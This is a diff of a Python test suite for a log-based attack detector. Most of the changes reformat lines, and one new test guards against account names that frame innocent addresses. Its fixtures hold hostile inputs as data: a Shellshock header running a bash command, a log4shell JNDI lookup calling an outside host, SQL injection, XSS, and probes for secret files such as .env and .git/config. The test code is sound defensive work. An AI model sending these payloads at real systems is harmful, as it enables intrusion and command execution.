@@ -41,11 +41,31 @@ def at(seconds: float) -> datetime:
 
 
 def login(ip: str, seconds: float, ok: bool, account: str | None = "anna@example.com", **more: Any) -> Row:
-    return {"at": at(seconds), "service": "auth", "message": "login", "ip": ip, "event": "login_ok" if ok else "login_failed", "account": account, **more}
+    return {
+        "at": at(seconds),
+        "service": "auth",
+        "message": "login",
+        "ip": ip,
+        "event": "login_ok" if ok else "login_failed",
+        "account": account,
+        **more,
+    }
 
 
-def asks(ip: str, seconds: float, url: str, status: int = 200, agent: str | None = BROWSER, method: str = "GET", **more: Any) -> Row:
-    return {"at": at(seconds), "service": "web", "message": f"{method} {url} {status}", "ip": ip, "url": url, "status": status, "user_agent": agent, "method": method, **more}
+def asks(
+    ip: str, seconds: float, url: str, status: int = 200, agent: str | None = BROWSER, method: str = "GET", **more: Any
+) -> Row:
+    return {
+        "at": at(seconds),
+        "service": "web",
+        "message": f"{method} {url} {status}",
+        "ip": ip,
+        "url": url,
+        "status": status,
+        "user_agent": agent,
+        "method": method,
+        **more,
+    }
 
 
 def verdicts(rows: Sequence[Row], **more: Any) -> dict[str, str]:
@@ -63,7 +83,9 @@ def one(rows: Sequence[Row], address: str) -> Row:
 
 
 def found(texts: list[str], where: str) -> set[str]:
-    hits = payloads(pl.DataFrame({"text": texts, "where": [where] * len(texts)}, schema={"text": pl.String, "where": pl.String}))
+    hits = payloads(
+        pl.DataFrame({"text": texts, "where": [where] * len(texts)}, schema={"text": pl.String, "where": pl.String})
+    )
     return set(hits.filter(pl.col("kinds").list.len() > 0)["text"])
 
 
@@ -84,7 +106,11 @@ def test_payloads_are_told_by_kind(kind: str) -> None:
     assert missed == []
 
 
-@pytest.mark.parametrize("escape", [lambda text: quote(text, safe=""), lambda text: quote(quote(text, safe=""), safe=""), str], ids=["once", "twice", "raw"])
+@pytest.mark.parametrize(
+    "escape",
+    [lambda text: quote(text, safe=""), lambda text: quote(quote(text, safe=""), safe=""), str],
+    ids=["once", "twice", "raw"],
+)
 def test_payloads_in_urls_are_seen_through_their_encoding(escape: Any) -> None:
     """Attackers encode; at least 98 % of the corpus must be seen in a query, encoded once, twice or not."""
     urls = [f"https://pitchey.example/api/search?page=1&q={escape(text)}" for text in ALL_PAYLOADS]
@@ -123,11 +149,31 @@ def test_our_own_messages_are_not_payloads() -> None:
 
 def test_statements_of_the_data_store_accuse_nobody() -> None:
     """A slow-query log with a client address holds SQL all day."""
-    rows = [{"at": at(n), "service": "database", "message": "slow: SELECT * FROM users WHERE 1=1 UNION ALL SELECT 1,2 -- x", "ip": "203.0.113.9"} for n in range(5)]
+    rows = [
+        {
+            "at": at(n),
+            "service": "database",
+            "message": "slow: SELECT * FROM users WHERE 1=1 UNION ALL SELECT 1,2 -- x",
+            "ip": "203.0.113.9",
+        }
+        for n in range(5)
+    ]
     assert "accused" not in verdicts(rows).values()
 
 
-@pytest.mark.parametrize("text", ["(" * 200_000, "'" * 100_000 + "a", "%25" * 100_000 + "27", "../" * 300_000, "\x00" * 1000, "\u202e<script>alert(1)</script>", "&#" * 200_000, "/*" * 100_000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "(" * 200_000,
+        "'" * 100_000 + "a",
+        "%25" * 100_000 + "27",
+        "../" * 300_000,
+        "\x00" * 1000,
+        "\u202e<script>alert(1)</script>",
+        "&#" * 200_000,
+        "/*" * 100_000,
+    ],
+)
 def test_hostile_lengths_are_bounded(text: str) -> None:
     """A megabyte url costs as much as four kilobytes; nothing here may crash or hang."""
     rows = [asks("203.0.113.7", 0, "/x?q=" + text, 404)]
@@ -189,7 +235,7 @@ def test_an_administrator_with_more_failures_than_most_attackers_is_not_accused(
     for day in range(7):
         for session in range(28):
             start = day * 86_400 + session * 900
-            rows += [login("203.0.113.7", start + 5 * n, False, "ops") for n in range(session % 7 == 0 and 1 or 0)]
+            rows += [login("203.0.113.7", start + 5 * n, False, "ops") for n in range((session % 7 == 0 and 1) or 0)]
             rows += [login("203.0.113.7", start + 60, True, "ops")]
         rows += [login("203.0.113.7", day * 86_400 + 30_000 + n, False, "ops") for n in range(2)]
     rows += [login("203.0.113.7", 100, False, "opps"), login("203.0.113.7", 110, False, "root")]
@@ -198,7 +244,11 @@ def test_an_administrator_with_more_failures_than_most_attackers_is_not_accused(
 
 def test_an_office_behind_one_address_is_not_accused() -> None:
     """Many accounts with a few failures each, but nearly all of them get in: persons."""
-    rows = [login("203.0.113.7", 60 * n + k, k == n % 3, f"user{n}@example.com") for n in range(60) for k in range(n % 3 + 1)]
+    rows = [
+        login("203.0.113.7", 60 * n + k, k == n % 3, f"user{n}@example.com")
+        for n in range(60)
+        for k in range(n % 3 + 1)
+    ]
     assert one(rows, "203.0.113.7")["verdict"] == "benign"
 
 
@@ -237,12 +287,21 @@ def test_a_hundred_attackers_of_all_sizes_beside_persons() -> None:
     for n in range(100):
         ip = f"{60 + n}.{chance.randrange(256)}.{chance.randrange(256)}.9"
         size = chance.choice([5, 5, 6, 6, 7, 8, 10, 15, 40, 300])
-        names = chance.sample(["root", "admin", "test", "oracle", "postgres", "guest", "ftp", "bob", "x1", "deploy"], chance.randrange(1, 6))
+        names = chance.sample(
+            ["root", "admin", "test", "oracle", "postgres", "guest", "ftp", "bob", "x1", "deploy"],
+            chance.randrange(1, 6),
+        )
         start = chance.randrange(80_000)
         guilty.add(ip)
         for k in range(size):
             name = names[k % len(names)]
-            rows.append({"at": at(start + 3 * k), "service": "auth", "message": f"Failed password for {'invalid user ' if name == 'x1' else ''}{name} from {ip} port 4711 ssh2"})
+            rows.append(
+                {
+                    "at": at(start + 3 * k),
+                    "service": "auth",
+                    "message": f"Failed password for {'invalid user ' * (name == 'x1')}{name} from {ip} port 4711 ssh2",
+                }
+            )
     for n in range(60):
         ip = f"91.5.{n}.2"
         for day in range(3):
@@ -276,6 +335,21 @@ def test_failures_are_read_from_the_wording_where_no_event_says_so(message: str)
     assert told["failures"] == 25
 
 
+@pytest.mark.parametrize(
+    "message",
+    [
+        "Failed password for invalid user x from 8.8.8.8 port 1 ssh2 from 203.0.113.7 port 22 ssh2",
+        "Invalid user x from 8.8.8.8 from 203.0.113.7",
+        "Login failed for user 'x from 8.8.8.8' from 203.0.113.7",
+        "Login failed, ip=203.0.113.7, agent='from 8.8.8.8'",
+    ],
+)
+def test_an_account_name_cannot_frame_another_address(message: str) -> None:
+    """The name is what the attacker typed; an address in it must not be accused for him."""
+    told = verdicts([{"at": at(n), "service": "auth", "message": message} for n in range(25)])
+    assert "8.8.8.8" not in told
+
+
 def test_repeated_lines_count_as_often_as_they_say() -> None:
     """syslog folds lines; the folded ones were tries too."""
     message = "message repeated 12 times: [ Failed password for root from 203.0.113.7 port 4 ssh2]"
@@ -286,8 +360,16 @@ def test_the_same_try_on_two_lines_counts_once() -> None:
     """PAM, sshd and the request log write about one attempt; adding them would accuse persons."""
     rows: list[Row] = []
     for n in range(3):
-        rows.append({"at": at(n), "service": "auth", "message": "authentication failure; tty=ssh ruser= rhost=203.0.113.7  user=anna"})
-        rows.append({"at": at(n), "service": "auth", "message": "Failed password for anna from 203.0.113.7 port 22 ssh2"})
+        rows.append(
+            {
+                "at": at(n),
+                "service": "auth",
+                "message": "authentication failure; tty=ssh ruser= rhost=203.0.113.7  user=anna",
+            }
+        )
+        rows.append(
+            {"at": at(n), "service": "auth", "message": "Failed password for anna from 203.0.113.7 port 22 ssh2"}
+        )
     assert one(rows, "203.0.113.7")["failures"] == 3
 
 
@@ -309,7 +391,24 @@ def test_a_login_that_breaks_accuses_nobody() -> None:
 
 
 def nikto(ip: str, agent: str) -> list[Row]:
-    odd = ["cgi-bin/test.cgi", "admin.php", "phpinfo.php", "server-status", ".git/config", "backup.zip", "wp-login.php", "manager/html", ".env", "scripts/root.exe", "config.inc", "db.sql", "iisadmin/", "owa/", "test.asp", "web.config.bak"]
+    odd = [
+        "cgi-bin/test.cgi",
+        "admin.php",
+        "phpinfo.php",
+        "server-status",
+        ".git/config",
+        "backup.zip",
+        "wp-login.php",
+        "manager/html",
+        ".env",
+        "scripts/root.exe",
+        "config.inc",
+        "db.sql",
+        "iisadmin/",
+        "owa/",
+        "test.asp",
+        "web.config.bak",
+    ]
     rows = [asks(ip, 0.1 * n, f"/{path}", 404, agent) for n, path in enumerate(odd)]
     return rows + [asks(ip, 10 + 0.1 * n, f"/{chr(97 + n % 26)}{n}.cfm", 404, agent) for n in range(100)]
 
@@ -323,13 +422,29 @@ def sqlmap(ip: str) -> list[Row]:
 
 
 def nmap(ip: str) -> list[Row]:
-    paths = [("GET", "/nmaplowercheck1709", 404), ("POST", "/sdk", 404), ("GET", "/HNAP1", 404), ("GET", "/evox/about", 404), ("PROPFIND", "/", 405), ("OPTIONS", "/", 200), ("GET", "/.git/HEAD", 404), ("GET", "/robots.txt", 404), ("TRACE", "/", 405)]
+    paths = [
+        ("GET", "/nmaplowercheck1709", 404),
+        ("POST", "/sdk", 404),
+        ("GET", "/HNAP1", 404),
+        ("GET", "/evox/about", 404),
+        ("PROPFIND", "/", 405),
+        ("OPTIONS", "/", 200),
+        ("GET", "/.git/HEAD", 404),
+        ("GET", "/robots.txt", 404),
+        ("TRACE", "/", 405),
+    ]
     return [asks(ip, 0.2 * n, url, status, method=method) for n, (method, url, status) in enumerate(paths)]
 
 
 @pytest.mark.parametrize(
     "traffic",
-    [lambda: nikto("203.0.113.7", BROWSER), lambda: nikto("203.0.113.7", "Mozilla/5.00 (Nikto/2.1.6)"), lambda: wordlist("203.0.113.7"), lambda: sqlmap("203.0.113.7"), lambda: nmap("203.0.113.7")],
+    [
+        lambda: nikto("203.0.113.7", BROWSER),
+        lambda: nikto("203.0.113.7", "Mozilla/5.00 (Nikto/2.1.6)"),
+        lambda: wordlist("203.0.113.7"),
+        lambda: sqlmap("203.0.113.7"),
+        lambda: nmap("203.0.113.7"),
+    ],
     ids=["nikto spoofed", "nikto", "word list", "sqlmap spoofed", "nmap spoofed"],
 )
 def test_scanners_are_accused_by_what_they_do(traffic: Any) -> None:
@@ -356,13 +471,18 @@ def test_a_crawler_with_dead_links_is_not_accused() -> None:
 def test_a_crawler_that_sends_payloads_is_accused() -> None:
     """Anybody can write Googlebot into a header."""
     agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
-    rows = [asks("203.0.113.7", n, "/?q=" + quote(text), 200, agent) for n, text in enumerate(PAYLOADS["path_traversal"])]
+    rows = [
+        asks("203.0.113.7", n, "/?q=" + quote(text), 200, agent) for n, text in enumerate(PAYLOADS["path_traversal"])
+    ]
     assert verdicts(rows)["203.0.113.7"] == "accused"
 
 
 def test_payloads_in_the_user_agent_are_seen() -> None:
     """Shellshock and log4shell come in headers."""
-    rows = [asks("203.0.113.7", 0, "/", 200, "() { :;}; /bin/bash -c 'id'"), asks("203.0.113.8", 0, "/", 200, "${jndi:ldap://x.example/a}")]
+    rows = [
+        asks("203.0.113.7", 0, "/", 200, "() { :;}; /bin/bash -c 'id'"),
+        asks("203.0.113.8", 0, "/", 200, "${jndi:ldap://x.example/a}"),
+    ]
     assert set(verdicts(rows).values()) == {"accused"}
 
 
@@ -386,7 +506,11 @@ def test_one_user_on_many_networks_is_a_rate_limit_bypass() -> None:
 
 def test_a_limit_walked_around_with_many_addresses_is_seen() -> None:
     """The same odd agent, the same route, refused now and then, from ever new addresses."""
-    rows = [asks(f"{20 + n}.7.7.7", 60.0 * n + k, "/api/auth/verify", 429 if k == 9 else 401, "okhttp/4.9.1") for n in range(30) for k in range(10)]
+    rows = [
+        asks(f"{20 + n}.7.7.7", 60.0 * n + k, "/api/auth/verify", 429 if k == 9 else 401, "okhttp/4.9.1")
+        for n in range(30)
+        for k in range(10)
+    ]
     rows += [asks(f"198.51.{n // 200}.{n % 200}", 5.0 * n, "/pitches", 200) for n in range(400)]
     told = attackers(frame(rows)).filter(pl.col("verdict") == "accused")
     assert told.height == 30
@@ -394,7 +518,10 @@ def test_a_limit_walked_around_with_many_addresses_is_seen() -> None:
 
 def test_rotating_forwarding_headers_are_seen() -> None:
     """A client that names another X-Forwarded-For each time wants a fresh limit each time."""
-    rows = [asks("203.0.113.7", n, "/api/auth/verify", 401) | {"message": f"request X-Forwarded-For: 10.1.{n}.9 denied"} for n in range(25)]
+    rows = [
+        asks("203.0.113.7", n, "/api/auth/verify", 401) | {"message": f"request X-Forwarded-For: 10.1.{n}.9 denied"}
+        for n in range(25)
+    ]
     told = one(rows, "203.0.113.7")
     assert (told["verdict"], "rate_limit_bypass" in told["kinds"]) == ("accused", True)
 
@@ -406,7 +533,21 @@ def accused_frame(ips: Sequence[str]) -> pl.DataFrame:
     return frame([login(ip, n, False, "root") for ip in ips for n in range(20)])
 
 
-NEVER = ["10.0.0.8", "127.0.0.1", "192.168.1.4", "172.16.0.9", "169.254.3.3", "104.16.5.5", "2606:4700::7", "fe80::1", "::1", "0.0.0.0", "224.0.0.5", "100.64.0.1", "8.8.4.4"]
+NEVER = [
+    "10.0.0.8",
+    "127.0.0.1",
+    "192.168.1.4",
+    "172.16.0.9",
+    "169.254.3.3",
+    "104.16.5.5",
+    "2606:4700::7",
+    "fe80::1",
+    "::1",
+    "0.0.0.0",
+    "224.0.0.5",
+    "100.64.0.1",
+    "8.8.4.4",
+]
 
 
 def test_nobody_who_must_not_be_blocked_is_proposed() -> None:
@@ -463,7 +604,9 @@ def test_nothing_to_look_at_is_not_checked() -> None:
 
 def test_findings_say_what_and_how_bad() -> None:
     """A success after failures is critical; the rest are warnings."""
-    rows = [login("203.0.113.7", n, False, "root", observation="logs/query/auth") for n in range(30)] + [login("203.0.113.7", 31, True, "root")]
+    rows = [login("203.0.113.7", n, False, "root", observation="logs/query/auth") for n in range(30)] + [
+        login("203.0.113.7", 31, True, "root")
+    ]
     rows += sqlmap("45.9.9.9")
     told = attack_findings(frame(rows))
     assert isinstance(told, list)
@@ -480,7 +623,11 @@ def test_only_the_window_is_judged() -> None:
 
 def test_the_order_of_rows_changes_nothing() -> None:
     """Same evidence, same report, to the byte."""
-    rows = [*nikto("203.0.113.7", BROWSER), *sqlmap("203.0.113.8"), *(login("203.0.113.9", n, False, "root") for n in range(9))]
+    rows = [
+        *nikto("203.0.113.7", BROWSER),
+        *sqlmap("203.0.113.8"),
+        *(login("203.0.113.9", n, False, "root") for n in range(9)),
+    ]
     shuffled = list(rows)
     random.Random(3).shuffle(shuffled)
     straight = attackers(frame(rows)).write_json()
@@ -490,7 +637,10 @@ def test_the_order_of_rows_changes_nothing() -> None:
 def test_the_firewall_s_view_is_judged_too() -> None:
     """What the edge stopped never reached a log."""
     edge = pl.DataFrame(
-        [{"at": at(n), "action": "block", "ip": "203.0.113.7", "path": "/?x=" + quote(text), "user_agent": BROWSER} for n, text in enumerate(PAYLOADS["xss"][:5])],
+        [
+            {"at": at(n), "action": "block", "ip": "203.0.113.7", "path": "/?x=" + quote(text), "user_agent": BROWSER}
+            for n, text in enumerate(PAYLOADS["xss"][:5])
+        ],
         schema=frames.FIREWALL,
     )
     judged = attackers(frames.empty(frames.LOGS), firewall=edge)
@@ -541,7 +691,12 @@ def test_a_million_rows_are_judged_in_seconds() -> None:
         message=pl.format("request {} took {} ms for 'x' ({})", pl.col("i"), pl.col("i") % 900, pl.col("i") % 11),
         user_agent=pl.lit(BROWSER), method=pl.lit("GET"), service=pl.lit("web"), status=pl.lit(200, pl.Int32),
     )  # fmt: skip
-    logs = rows.select([pl.col(name) if name in rows.columns else pl.lit(None, dtype).alias(name) for name, dtype in frames.LOGS.items()])
+    logs = rows.select(
+        [
+            pl.col(name) if name in rows.columns else pl.lit(None, dtype).alias(name)
+            for name, dtype in frames.LOGS.items()
+        ]
+    )
     started = datetime.now(UTC)
     judged = attackers(logs)
     assert (datetime.now(UTC) - started).total_seconds() < 60
